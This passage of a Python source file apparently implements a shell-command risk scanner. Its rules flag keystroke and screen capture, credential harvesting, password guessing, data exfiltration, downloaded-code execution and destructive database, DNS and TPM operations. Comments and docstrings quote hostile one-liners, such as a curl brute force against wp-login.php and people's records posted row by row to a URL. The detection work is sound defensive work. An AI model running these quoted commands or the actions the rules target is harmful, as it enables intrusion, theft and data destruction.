        screenshot = name in ("scrot", "gnome-screenshot", "screencapture", "grim", "maim", "xwd") or (
            name == "import" and "-window" in args
        )
        keys = (name == "xinput" and args[:1] in (["test"], ["test-xi2"])) or name in T.KEY_LOGGERS
        if not (clipboard or screenshot or keys):
            return
        flow.secret = True
        operands = [a for a in args if not a.startswith("-") and a not in ("root",)]
        if screenshot and operands:
            self.staged.add(operands[-1])  # the screenshot file is private data from now on
        what = "keystrokes" if keys else "clipboard" if clipboard else "screen"
        endless = any(loop.endless for loop in self._loops)
        self._add(
            "shell.capture",
            RiskLevel.HIGH if keys or endless else RiskLevel.MEDIUM,
            Category.EXFILTRATION,
            f"{name} records {what}" + (" continuously" if endless else ""),
            node,
        )

    def _rule_scheduler(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Batch schedulers (Slurm/PBS/LSF: see :mod:`sandlot.risk.schedulers`); systemd-run timers."""
        if name in SCHEDULER_TOOLS:
            raw = self._text(node) if node is not None else ""
            own = any(x in raw for x in ("$USER", "${USER}", "$LOGNAME", "whoami", "id -un"))
            repeated = bool(self._loops) or self._mass or self._repeated or bool(self._stdin_listing)
            risk = scheduler_command(name, args, repeated=repeated, own=own)
            if risk is None and not own:
                risk = cancels_listed_jobs(name, args, self._source.decode("utf-8", "replace"), repeated=repeated)
            if risk is None and self._loops and self._loops[-1].endless:
                risk = endless_submission(name)
            if risk is not None:
                self._add("shell.scheduler", risk.level, risk.category, risk.what, node)
            # `sbatch --wrap 'CMD'`: the job's whole script, run on a compute node
            for script in W.option_values(args, "--wrap", "-wrap"):
                self._nested(script, "shell", node, f"{name} --wrap")
            return
        if name == "systemd-run" and any(
            a.startswith(("--on-calendar", "--on-unit-active", "--on-unit-inactive", "--timer-property"))
            for a in args
        ):
            self._add(
                "shell.persistence",
                RiskLevel.HIGH,
                Category.PERSISTENCE,
                "systemd-run schedules a command to run again and again (a transient timer)",
                node,
            )
        elif name == "systemd-run" and any(a.startswith(("--on-active", "--on-boot", "--on-startup")) for a in args):
            # `--on-active=25m`: once, later (what runs is judged as the command itself)
            self._add("shell.persistence", RiskLevel.MEDIUM, Category.PERSISTENCE,
                      "systemd-run runs a command once, later (a transient timer)", node)  # fmt: skip
        if name == "loginctl" and "enable-linger" in args:
            self._add(
                "shell.persistence",
                RiskLevel.MEDIUM,
                Category.PERSISTENCE,
                "loginctl enable-linger keeps the user's services running after logout",
                node,
            )
        if name == "loginctl" and (
            "unlock-sessions" in args
            or (
                any(a in ("terminate-session", "kill-session", "terminate-user", "kill-user") for a in args)
                and (self._loops or self._repeated or self._mass or any(HOLE in a for a in args))
            )
        ):
            # every session on the machine: everyone logged out (their unsaved work lost), or every lock screen gone
            self._add("shell.session", RiskLevel.HIGH, Category.PROCESS,
                      "loginctl unlocks, ends or kills every login session a listing gives", node)  # fmt: skip

    def _rule_notebook(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """A notebook server on every interface without a token runs code for anyone who connects."""
        joined = " ".join(args)
        everywhere = any(a in ("--ip=0.0.0.0", "--ip=*", "--ip=::") for a in args) or re.search(
            r"--ip\s+(0\.0\.0\.0|\*)", joined
        )
        open_door = re.search(
            r"(?:NotebookApp|ServerApp|IdentityProvider)\.(?:token|password)=(?:''|\"\"|\s|$)", joined + " "
        )
        if everywhere and (open_door or "--NotebookApp.token=" in args or "--ServerApp.token=" in args):
            self._add(
                "shell.open-notebook",
                RiskLevel.HIGH,
                Category.NETWORK,
                f"{name} serves a notebook on every interface without a token (remote code execution)",
                node,
            )
        gateway_everywhere = re.search(r"KernelGatewayApp\.ip=[\"']?(?:0\.0\.0\.0|\*)", joined)
        if "kernelgateway" in args and gateway_everywhere and re.search(r"auth_token=(?:''|\"\"|\s|$)", joined + " "):
            self._add("shell.open-notebook", RiskLevel.HIGH, Category.NETWORK,
                      f"{name} kernelgateway runs kernels for anyone on every interface (no token)", node)  # fmt: skip

    def _credential_body(self, name: str, node: Any) -> None:
        """Tokens of several services (``$WANDB_API_KEY``, ``$AWS_SECRET_ACCESS_KEY``...) in one
        request's data or URL, not its headers: a harvest, not a login."""
        text = self._text(node)
        if len({v for v in re.findall(r"\$\{?([A-Za-z_]\w*)", text) if T.CREDENTIAL_NAME.search(v)}) < 2:
            return  # fewer than two credentials named at all: the split below cannot find two
        if _TOKEN_REQUEST.search(text):
            return  # an OAuth token request: a client's secret and a user's password are what a login sends
        words = _spelled_words(text)
        names: set[str] = set()
        previous = ""
        for word in words:
            header = previous in ("-H", "--header", "-u", "--user", "--oauth2-bearer") or word.startswith(
                ("--header=", "-H")
            )
            if not header:
                for var in re.findall(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)", word):
                    if T.CREDENTIAL_NAME.search(var):
                        names.add(var)
            previous = word
        if len(credential_services(names)) >= 2:
            self._add(
                "shell.exfiltration",
                RiskLevel.HIGH,
                Category.EXFILTRATION,
                f"{name} sends credentials of several services ({', '.join(sorted(names)[:3])}) as request data",
                node,
            )

    def _directory_password_guessing(self, name: str, node: Any) -> None:
        """``for p in …; do ldapwhoami -D "uid=$u,…" -w "$p"``: a directory's logins tried password after password
        (spraying, or locking every account out)."""
        if not name.startswith("ldap") or node is None or not self._loops:
            return
        tried = _BIND_PASSWORD_VARIABLE.search(self._text(node))
        if tried is None:
            return
        looped = tried[1] in self._read_vars or re.search(
            rf"\bfor\s+{re.escape(tried[1])}\s+in\b", self._source.decode("utf-8", "replace")
        ) is not None
        if looped and (len(self._loops) >= 2 or self._repeated or self._mass):
            self._add("shell.brute-force", RiskLevel.HIGH, Category.NETWORK,
                      f"{name} tries a list of passwords against every directory account (spraying or lockout)",
                      node)  # fmt: skip

    def _password_guessing(self, name: str, node: Any) -> None:
        """``while read -r pw; do curl -d "log=admin&pwd=$pw" …/wp-login.php; done < passwords.txt``: a login form
        tried with every password of a list."""
        if not self._read_vars or node is None:
            return
        guessed = [m.group(1) for m in _PASSWORD_FIELD.finditer(self._text(node)) if m.group(1) in self._read_vars]
        if guessed:
            self._add("shell.brute-force", RiskLevel.HIGH, Category.NETWORK,
                      f"{name} tries every password of a list against a login (password guessing)", node)  # fmt: skip

    def _people_body(self, name: str, args: list[str], node: Any) -> None:
        """``… | while IFS=, read -r id name phone email addr; do curl -d "…$name…$phone…$email…" URL``: each row of
        a file of people, field by field, sent to a host outside the network."""
        if not self._read_vars:
            return
        sent = {var for var in re.findall(r"\$\{?([A-Za-z_]\w*)", self._text(node)) if var in self._read_vars}
        if len(sent) < 3 or not people_row(sorted(sent)):
            return
        urls = [a for a in args if "://" in a]
        hosts = [urllib.parse.urlsplit(u).hostname or "" for u in urls]
        # a chat channel, a paste or file drop, a bare address or someone's own machine: not a records system
        if not any(
            chat_webhook(u) or public_drop(u) or outside_address(h) or personal_host(h)
            for u, h in zip(urls, hosts, strict=True)
        ):
            return
        self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                  f"{name} sends people's details ({', '.join(sorted(sent)[:4])}) row by row to {hosts[0]}",
                  node)  # fmt: skip

    def _rule_trap(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``trap 'CODE' EXIT``: CODE runs later, when the signal arrives or the script ends."""
        if len(args) >= 2 and not args[0].startswith("-") and args[0].strip(HOLE):
            self._nested(args[0], "shell", node, "trap handler")

    def _rule_alias(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        for arg in args:
            alias, sep, value = arg.partition("=")
            if sep and alias and not alias.startswith("-"):
                self.aliases[alias] = value

    def _rule_sql_client(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        script = self._heredoc_text if self._heredoc_text is not None else self._stdin_text
        # `mongosh "$URI" /tmp/maint.js`, `psql -f fix.sql`: a script file the client runs, downloaded
        scripts = [a for a in args if a.endswith(_CLIENT_SCRIPTS)] + W.option_values(args, "-f", "--file")
        fetched = next((a for a in scripts if a in self.downloaded or posixpath.basename(a) in self.downloaded), None)
        if fetched is not None:
            self._runs_download(name, fetched, node)
        inputs = [*W.option_values(args, "-i", "--input-file"), *(a[1:] for a in args if a.startswith("@"))]
        if flow.remote and any(HOLE in a for a in [*scripts, *inputs]):
            # `sqlcmd -i <(curl -s http://…/fix.sql)`, `psql -f <(curl …)`: the statements come from the network
            self._add("shell.download-exec", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                      f"{name} runs SQL downloaded from the network", node)  # fmt: skip
        for library in [a or b for a, b in _LOADED_EXTENSION.findall(" ".join([*args, script or ""]))]:
            # `sqlite3 db ".load /tmp/vec0"`: a native library run inside the database client
            loaded = posixpath.basename(library.strip("'\""))
            if loaded and any(posixpath.basename(d).split(".")[0] == loaded.split(".")[0] for d in self.downloaded):
                self._add("shell.download-exec", RiskLevel.CRITICAL, Category.DYNAMIC_CODE,
                          f"{name} loads a native extension downloaded from the network ({library})", node)  # fmt: skip
        if personal_data_query(" ".join([*args, script or ""])):
            flow.secret = True  # people's records: sent anywhere, a leak
            # `\copy (SELECT email, phone …) TO '/tmp/c.csv'`: the file holds them now
            self._bulk_files.update(_COPY_TO_FILE.findall(" ".join([*args, script or ""])))
            if name == "ogr2ogr":  # `ogr2ogr -f CSV out.csv PG:… -sql "SELECT …"`: the destination comes first
                self._bulk_files.update(W.options(args, _OGR2OGR_VALUED)[1][:1])
        statements = " ".join([*args, script or ""])
        if name == "sqlite3" and any(a.strip().startswith(".dump") for a in args):
            flow.dump = True  # `sqlite3 keys.db .dump`: the database's every row as SQL on standard output
        danger = dangerous_sql(statements)
        if danger is None and any(a.startswith(_PACKAGE_DATABASES) for a in args) and _SQL_WRITE.search(statements):
            danger = "rewrites the package manager's own database (what is installed, and what depends on it)", (
                Category.FILESYSTEM
            )
        if danger is None and unloads_personal_data(statements, self._source.decode("utf-8", "replace")):
            danger = "copies people's records out (into object storage or to another server)", Category.EXFILTRATION
        elif danger is None and drops_table(statements) and HOLE in statements and (self._loops or self._repeated):
            danger = "drops every table or view a listing gives", Category.FILESYSTEM
        elif (
            danger is None
            and empties_tables(statements)
            and production_target(statements + " " + self._source.decode("utf-8", "replace"))
        ):
            danger = "drops, empties or rewrites whole tables of a production database", Category.FILESYSTEM
        elif danger is None and deletes_before_far_future(statements):
            danger = "deletes every row (its cut-off date lies decades ahead)", Category.FILESYSTEM
        elif (
            danger is None
            and deletes_recent_rows(statements)
            and production_target(statements + " " + self._source.decode("utf-8", "replace"))
        ):
            danger = "deletes the most recent records of a production table", Category.FILESYSTEM
        elif (
            danger is None
            # in a loop, or three tables or more in one script: a database emptied, not a table reset
            and ((self._loops and empties_tables(statements)) or emptied_table_count(statements) >= 3)
            and not refills_tables(self._source.decode("utf-8", "replace"))
        ):
            danger = "empties one table after another (nothing refills them)", Category.FILESYSTEM
        if danger:
            what, category = danger
            rule = "shell.drop-database" if category is Category.FILESYSTEM else "shell.sql"
            scratch = category is Category.FILESYSTEM and self._local_scratch_database(name, args)
            own = category is Category.FILESYSTEM and drops_database_made_here(
                statements, self._source.decode("utf-8", "replace")
            )
            self._add(rule, RiskLevel.MEDIUM if scratch or own else RiskLevel.HIGH, category,
                      f"{name} {what}" + (" (a local dev or test database)" if scratch
                                          else " (one this script creates)" if own else ""), node)  # fmt: skip

    def _local_scratch_database(self, name: str, args: list[str]) -> bool:
        """The client is pointed, by its options or the script's own PG*/MYSQL_* variables, at a database on
        this machine whose name says it is a developer's or a test's (``app_dev`` on localhost)."""
        hosts = W.option_values(args, "-h", "--host") or [
            self.vars[v] for v in ("PGHOST", "MYSQL_HOST") if v in self.vars
        ]
        databases = W.option_values(args, "-d", "--dbname", "-D", "--database") or [
            self.vars[v] for v in ("PGDATABASE", "MYSQL_DATABASE") if v in self.vars
        ]
        if name == "cqlsh":  # `cqlsh 127.0.0.1 -k shop_test`: the host comes first, the keyspace by -k
            hosts = hosts or [a for a in args[:1] if not a.startswith("-")]
            databases = W.option_values(args, "-k", "--keyspace")
        if name in ("psql", "mysql", "mariadb"):
            hosts = hosts or ["localhost"]  # no host named: the server on this machine's (or container's) socket
        return (
            bool(hosts)
            and bool(databases)
            and all(h in ("localhost", "127.0.0.1", "::1") for h in hosts)
            and all(throwaway_database(d) for d in databases)
        )

    def _money(self, what: str, context: str, node: Any) -> None:
        """A refund, payout, transfer or signed chain transaction: real money unless it is test money."""
        test = test_money(context + " " + (self._source.decode("utf-8", "replace") if node is not None else ""))
        self._add("shell.money", RiskLevel.MEDIUM if test else RiskLevel.HIGH, Category.EXFILTRATION,
                  f"{what} moves money" + (" (test mode)" if test else ""), node)  # fmt: skip

    def _rule_ledger(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Payment CLIs moving money, chain transactions signed, nodes serving their wallets to everyone."""
        if name == "stripe":
            positional = [a for a in args if not a.startswith("-")]
            if moves_money(*positional[:2]):
                live = "--live" in args  # the Stripe CLI works in test mode unless told otherwise
                self._add("shell.money", RiskLevel.HIGH if live else RiskLevel.MEDIUM, Category.EXFILTRATION,
                          f"stripe {' '.join(positional[:2])} moves money" + ("" if live else " (test mode)"),
                          node)  # fmt: skip
            return
        if chain_send_command(name, args):
            self._money(f"{name} {args[0] if args else ''} signs and sends a transaction that", " ".join(args), node)
        scripted = W.option_values(args, "--exec", "--preload")
        if (args[:1] in (["attach"], ["console"]) or "--preload" in args) and scripted and (
            flow.remote or any(s in self.downloaded or posixpath.basename(s) in self.downloaded for s in scripted)
        ):
            # `geth attach --exec "$(curl …)"`: JavaScript from the network run in the node's console (its accounts)
            self._add("shell.download-exec", RiskLevel.CRITICAL, Category.DYNAMIC_CODE,
                      f"{name} runs downloaded JavaScript in the node's console", node)  # fmt: skip
        exposure = node_exposure(name, args)
        if exposure:
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK, exposure, node)

    def _rule_hypervisor(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Machines, snapshots and datastores destroyed, consoles opened, host disks given to guests, guests'
        memory and disks captured, administrators planted, images given keys."""
        repeated = bool(self._loops) or self._mass or self._repeated or bool(self._stdin_listing)
        risk = hypervisor_command(name, args, repeated=repeated)
        if risk is not None:
            self._add("shell.hypervisor", risk.level, risk.category, f"{risk.what}", node)
        machines = math.prod(loop.count or 1 for loop in self._loops)
        detached = "-daemonize" in args or self._background or self.inherited_background
        if name in QEMU_SYSTEMS and detached and machines >= MASS_COUNT:
            self._add("shell.resource", RiskLevel.HIGH, Category.RESOURCE,
                      f"starts {machines:,} virtual machines at once (the host's memory and CPUs run out)",
                      node)  # fmt: skip
        for target in machine_captures(name, args):
            if target in ("-", "/dev/stdout"):
                flow.secret = True  # a guest's memory or disk on standard output
            else:
                self.staged.add(target)  # everything the machine held, keys in memory included
        for command in image_commands(name, args):
            self._nested(command, "shell", node, f"{name} --run-command")

    def _rule_pdnsutil(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """PowerDNS' zone tool: a zone's private signing keys printed, zones deleted for every item a listing
        gives, DNSSEC switched off."""
        verb = args[:1]
        if verb in (["export-zone-key"], ["export-zone-key-pem"]):
            flow.secret = True  # the zone's private DNSSEC key: whoever has it signs answers for the zone
        elif verb == ["delete-zone"] and (self._loops or self._repeated or self._stdin_listing):
            self._add("shell.dns", RiskLevel.HIGH, Category.FILESYSTEM,
                      "pdnsutil deletes every zone a listing gives (their names stop resolving)", node)  # fmt: skip
        elif verb == ["disable-dnssec"]:
            self._add("shell.dns", RiskLevel.MEDIUM, Category.NETWORK,
                      "pdnsutil switches DNSSEC off for a zone (its answers can be forged)", node)  # fmt: skip

    def _rule_nsupdate(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """nsupdate's script (a here-document or a file's lines on stdin): a zone's name servers, mail exchangers
        or apex records deleted."""
        script = self._heredoc_text if self._heredoc_text is not None else self._stdin_text
        zone = next((m[1].rstrip(".").lower() for m in _NSUPDATE_ZONE.finditer(script or "")), None)
        for deleted in _NSUPDATE_DELETE.finditer(script or ""):
            owner, rtype = deleted[1].rstrip(".").lower(), (deleted[2] or "").upper()
            if rtype in ("NS", "MX", "SOA") or (zone is not None and owner == zone) or owner.startswith(("*", HOLE)):
                what = f"{name} deletes a zone's " + ("apex records" if owner == zone else f"{rtype or 'records'}")
                self._add("shell.dns", RiskLevel.HIGH, Category.NETWORK,
                          what + " (its mail, web or delegation stops resolving)", node)  # fmt: skip
                return

    def _rule_openstack(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """OpenStack's clients: admin roles handed out, security groups opened, resources deleted in bulk."""
        repeated = bool(self._loops) or self._mass or self._repeated or bool(self._stdin_listing)
        # (`openstack image list --property built_by=ci … | tail -n +6`: the pipeline's own old images rotated)
        selected = _SELECTED_LISTING.search(self._source.decode("utf-8", "replace")) is not None
        risk = openstack_command(name, args, repeated=repeated and not selected)
        if risk is not None:
            self._add("shell.openstack", risk.level, risk.category, risk.what, node)

    def _rule_provisioning(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """MAAS and Foreman: administrators with written passwords, every host rebuilt or deleted."""
        repeated = bool(self._loops) or self._mass or self._repeated or bool(self._stdin_listing)
        risk = provisioning_command(name, args, repeated=repeated)
        if risk is not None:
            self._add("shell.provisioning", risk.level, risk.category, risk.what, node)

    def _rule_mail_server(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Postfix, Exim, Dovecot, imapsync: everyone's mail copied out, relayed for anyone, or deleted."""
        repeated = bool(self._loops) or self._mass or self._repeated or bool(self._stdin_listing)
        risk = mail_server_command(name, args, repeated=repeated)
        if risk is not None:
            self._add("shell.mail-server", risk.level, risk.category, risk.what, node)
        if name == "doveadm" and "-A" in args and args[:1] in (["fetch"], ["search"], ["backup"], ["sync"]):
            flow.dump = True  # every user's mail

    def _rule_crm(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """sf/sfdx/twilio: records deleted in bulk, texts sent to a whole list, an org's tokens printed."""
        repeated = bool(self._loops) or self._repeated or bool(self._stdin_listing)
        risk = crm_command(name, args, repeated=repeated)
        if risk is not None:
            self._add("shell.crm", risk.level, risk.category, risk.what, node)
        if prints_org_secrets(name, args):
            flow.secret = True  # an access token and the refresh token that logs anyone in
        queries = W.option_values(args, "-q", "--query")
        if name in ("sf", "sfdx") and any(personal_data_query(q) for q in queries):
            flow.secret = True  # `sf data query -q "SELECT Name, Email, Phone … FROM Contact"`: people's records
            # `sf data export bulk --query … --output-file /tmp/c.csv`: the file holds them now
            self._bulk_files.update(W.option_values(args, "--output-file", "-f"))

    def _rule_cms(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """wp-cli and drush: site databases emptied, security plugins off, administrators made."""
        risk = cms_command(name, args)
        if risk is not None:
            # an administrator for a personal mailbox address is someone from outside
            outsider = risk.category is Category.PRIVILEGE and personal_mailbox(self._source.decode("utf-8", "replace"))
            self._add("shell.cms", RiskLevel.HIGH if outsider else risk.level, risk.category, risk.what, node)
        verbs = [a for a in args if not a.startswith("-")][:2]
        many = bool(self._loops) or self._repeated
        if name == "wp" and verbs == ["wc", "shop_order_refund"] and "create" in args and many:
            self._add("shell.money", RiskLevel.HIGH, Category.EXFILTRATION,
                      "wp wc shop_order_refund create refunds every order a listing gives", node)  # fmt: skip
        if name == "wp" and verbs == ["db", "query"]:
            self._rule_sql_client(name, args[args.index("query") + 1 :], node, flow)  # the site's database, in SQL
        elif name == "wp" and verbs == ["db", "export"] and any(a == "-" for a in args):
            flow.dump = True  # `wp db export -`: the whole site database on standard output
        elif name == "wp" and verbs == ["db", "export"]:
            # `wp db export /tmp/site.sql`: the whole site database, in that file
            self._bulk_files.update([a for a in args if not a.startswith("-") and a not in ("db", "export")][:1])
        elif name == "wp" and verbs == ["user", "list"]:
            flow.secret = True  # the site's users: their logins and e-mail addresses (password hashes, if asked)
        if name in ("wp", "drush") and any(a in ("eval", "php-eval", "php:eval", "ev") for a in args):
            # `wp eval 'PHP'`, `drush php:eval`: PHP run inside the site, with its database and secrets
            verb = next(a for a in args if a in ("eval", "php-eval", "php:eval", "ev"))
            operands = [a for a in args[args.index(verb) + 1 :] if not a.startswith("-")]
            code = operands[0] if operands else ""
            if flow.remote or code.strip(HOLE + " ") == "":
                self._add("shell.download-exec", RiskLevel.CRITICAL if flow.remote else RiskLevel.MEDIUM,
                          Category.DYNAMIC_CODE, f"{name} {verb} runs PHP "
                          + ("that was downloaded" if flow.remote else "known only at run time"), node)  # fmt: skip
            else:
                self._other_interpreter("php", code, node, verb)
        if name == "asterisk" or name == "fs_cli":
            commands = " ".join(W.option_values(args, "-rx", "-x"))
            device = device_commands_risk(commands)
            if device is not None:
                self._add("shell.device", device.level, device.category, f"{name} {device.what}", node)
            if forwards_calls_abroad(commands) and (self._loops or self._mass or self._repeated):
                self._add("shell.telephony", RiskLevel.HIGH, Category.NETWORK,
                          f"{name} forwards every extension's calls to an international number (toll fraud)",
                          node)  # fmt: skip
            if places_calls(commands) and (self._loops or self._mass):
                self._add("shell.telephony", RiskLevel.HIGH, Category.RESOURCE,
                          f"{name} places calls in a loop (toll fraud: every call is billed)", node)  # fmt: skip

    def _secret_is_the_address(self, node: Any) -> bool:
        """Every secret variable the command line names is, alone, the address it requests (not a header, a
        body, a login or part of a longer word)."""
        if node is None:
            return False
        try:
            words = shlex.split(self._text(node).replace("\\\n", " "))
        except ValueError:
            return False
        secret_refs = 0
        for i, word in enumerate(words[1:], start=1):
            names = [n for n in re.findall(r"\$\{?(\w+)\}?", word) if (f := self.var_flow.get(n)) and f.secret]
            if not names:
                continue
            secret_refs += 1
            alone = re.fullmatch(r"\$\{?\w+\}?", word) is not None
            if not alone or words[i - 1] in _CURL_VALUED_SENDS:
                return False
        return secret_refs > 0

    def _rule_tpm(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """The TPM: cleared or emptied of its persistent keys (what they sealed, disk keys included, is lost), or
        made to unseal a secret."""
        repeated = bool(self._loops) or self._mass or self._repeated
        if name == "tpm2_clear" or (name == "tpm2_evictcontrol" and repeated):
            what = "clears the TPM" if name == "tpm2_clear" else "evicts every persistent key from the TPM"
            self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"{name} {what} (the keys it sealed, disk unlock keys included, are gone)", node)  # fmt: skip
        if name == "tpm2_unseal":
            flow.secret = True  # a disk key or a credential the TPM held
            self._add("shell.secret-read", RiskLevel.MEDIUM, Category.EXFILTRATION,
                      "tpm2_unseal prints a secret the TPM held (a disk key)", node)  # fmt: skip

    def _rule_directory_servers(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """FreeIPA's servers removed from the topology or uninstalled, one after another."""
        removes = (name == "ipa-replica-manage" and "del" in args) or (name == "ipa-server-install"
                                                                       and "--uninstall" in args)  # fmt: skip
        if removes:
            every = bool(self._loops) or self._mass or self._repeated
            self._add("shell.identity", RiskLevel.HIGH if every else RiskLevel.MEDIUM, Category.FILESYSTEM,
                      f"{name} removes a directory server from the domain"
                      + (" (every one a listing gives)" if every else ""), node)  # fmt: skip

    def _production(self) -> bool:
        """The script, or the environment it was started with (`RAILS_ENV=production`), names production."""
        settings = " ".join(f"{k}={v}" for k, v in self.vars.items() if k.isupper())
        if self._installed_app:
            return True
        return production_target("\n".join((self._source.decode("utf-8", "replace"), self._argv_text, settings)))

    def _beam_code(self, name: str, code: str, node: Any, flow: _Flow) -> None:
        """Erlang or Elixir run inside a node (a release's ``rpc``, ``erl -eval``): what it does there, and the
        shell commands it hands to the operating system."""
        if flow.remote and code.strip(HOLE + " \"'") == "":
            self._add("shell.download-exec", RiskLevel.CRITICAL, Category.DYNAMIC_CODE,
                      f"{name} runs code downloaded a moment ago inside a live node", node)  # fmt: skip
            return
        for risk in beam_code_risks(code):
            self._add("shell.beam", risk.level, risk.category, f"{name}: {risk.what}", node)
        for command in beam_os_commands(code):
            self._nested(command, "shell", node, f"{name} (a command the node runs)", keep=RiskLevel.MEDIUM)
        for literal in _BASE64_LITERAL.findall(code):
            decoded = W.apply_transform("b64", literal)
            if decoded and decoded.isprintable():
                self._nested(decoded, "shell", node, f"{name} (decoded base64)", keep=RiskLevel.MEDIUM)

    def _rule_research_data(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """iRODS and Globus: whole collections deleted or wiped by a sync, administrators made, data opened to
        the public or to anonymous users."""
        words = [a for a in args if not a.startswith("-")]
        flags = "".join(a.lstrip("-") for a in args if a.startswith("-") and not a.startswith("--"))
        repeated = bool(self._loops) or self._mass or self._repeated
        if name == "irm" and ("r" in flags or repeated or any(HOLE in w for w in words)):
            # `irm -rf /zone/projects`, or every object a listing gives: `-f` skips the trash
            shallow = any(len([c for c in w.split("/") if c]) <= 3 for w in words if w.startswith("/"))
            if shallow or repeated:
                self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                          "irm deletes whole collections (or every object a listing gives)"
                          + (" bypassing the trash" if "f" in flags else ""), node)  # fmt: skip
        if name == "iadmin" and (("rodsadmin" in words and words[:1] in (["moduser"], ["atg"]))
                                 or (words[:1] == ["moduser"] and "password" in words)):  # fmt: skip
            self._add("shell.identity", RiskLevel.HIGH, Category.PRIVILEGE,
                      "iadmin makes a data-grid administrator or sets an account's password", node)  # fmt: skip
        if name == "ichmod" and any(w in ("public", "anonymous") for w in words[1:2]):
            self._add("shell.exposure", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"ichmod gives {words[1]} access to a collection", node)  # fmt: skip
        if name == "globus" and words[:1] == ["transfer"] and "--delete-destination-extra" in args:
            self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      "globus transfer deletes whatever the destination has that the source lacks", node)  # fmt: skip
        if name == "globus" and words[:1] in (["delete"], ["rm"]) and "r" in flags:
            self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      "globus deletes a whole folder tree of a collection", node)  # fmt: skip

    def _rule_mtd(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """OpenWrt's ``mtd erase firmware``: a flash partition of the device emptied (it no longer boots)."""
        if "erase" in args:
            part = args[args.index("erase") + 1] if args.index("erase") + 1 < len(args) else "a partition"
            self._add("shell.disk-format", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"mtd erases the flash partition {part} (the device may no longer boot)", node)  # fmt: skip

    def _rule_container_tasks(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``ctr -n "$ns" tasks ls -q | xargs … ctr tasks kill``: every container of every namespace killed."""
        verbs = [a for a in W.options(args, frozenset({"-n", "--namespace", "-a", "--address", "--signal", "-s"}))[1]]
        repeated = bool(self._loops) or self._mass or self._repeated
        if verbs[:2] in (["tasks", "kill"], ["task", "kill"], ["t", "kill"]) and repeated:
            self._add("shell.kill", RiskLevel.HIGH, Category.PROCESS,
                      f"{name} kills every container task a listing gives", node)  # fmt: skip

    def _rule_ipmitool(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``xargs -P 400 -I{} ipmitool … -P 'pw{}'``: a management controller's login tried with password after
        password."""
        passwords = W.option_values(args, "-P")
        if any(HOLE in p for p in passwords) and (bool(self._loops) or self._mass or self._repeated):
            self._add("shell.brute-force", RiskLevel.HIGH, Category.NETWORK,
                      "ipmitool tries password after password against a management controller", node)  # fmt: skip

    def _rule_sipp(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """``sipp -r 3000 … carrier:5060``: a SIP load generator aimed at someone else's server."""
        rate = next((int(v) for v in W.option_values(args, "-r") if v.isdigit()), 10)
        targets = [a.split(":")[0] for a in W.options(args, _SIPP_VALUED)[1]]
        outside = any(t and not (private_address(t) or t in ("localhost", "127.0.0.1") or _INTERNAL_NAME.search(t))
                      for t in targets)  # fmt: skip
        many = bool(self._loops) or self._mass or self._repeated
        if outside and (rate >= 1000 or (rate >= 100 and many)):
            self._add("shell.flood", RiskLevel.HIGH, Category.RESOURCE,
                      f"{name} places {rate} calls a second at another party's SIP server"
                      + (" from many instances" if many else ""), node)  # fmt: skip

    def _rule_data_platform(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """HDFS, Kafka, BigQuery, YARN and Databricks commands that empty, open up or exhaust a shared platform."""
        if name == "yarn" and args[:1] != ["application"]:
            self._rule_tls_off(name, args, node, flow)  # the JavaScript package manager
            return
        if name == "bq":
            self._rule_sql_client(name, args, node, flow)  # `bq query "DROP SCHEMA …"`
        risk = platform_risk(name, args, repeated=bool(self._loops) or self._mass or self._repeated)
        if risk is not None:
            self._add("shell.data-platform", risk.level, risk.category, risk.what, node)

    def _rule_gam(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """GAM (Google Workspace administration): mailboxes forwarded, delegated or emptied."""
        action = gam_action(args)
        if action is not None:
            kind, what = action
            exfiltration = kind == "exfiltration"
            self._add("shell.exfiltration" if exfiltration else "shell.data-destroy", RiskLevel.HIGH,
                      Category.EXFILTRATION if exfiltration else Category.FILESYSTEM, what, node)  # fmt: skip
        else:
            self._rule_directory(name, args, node, flow)
        shared = sharing_risk(" ".join(args))  # `add drivefileacl ID anyone role writer withlink`
        if shared is not None:
            self._add("shell.documents", shared.level, shared.category, f"{name} {shared.what}", node)

    def _rule_directory(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """Directory administration (samba-tool, net, GAM, az, ldapsearch): admin groups, mass changes, dumps."""
        risk = identity_command(name, args, repeated=bool(self._loops) or self._mass or self._repeated)
        if risk is not None:
            self._add("shell.identity", risk.level, risk.category, risk.what, node)
        if name == "ldapdelete" and "-r" in args:
            # (a CI job's own OU in a directory container on this machine is its scratch space)
            scratch = _LOCAL_DIRECTORY.search(" ".join(W.option_values(args, "-H"))) is not None and any(
                _CI_ENTRY.search(a) for a in args
            )
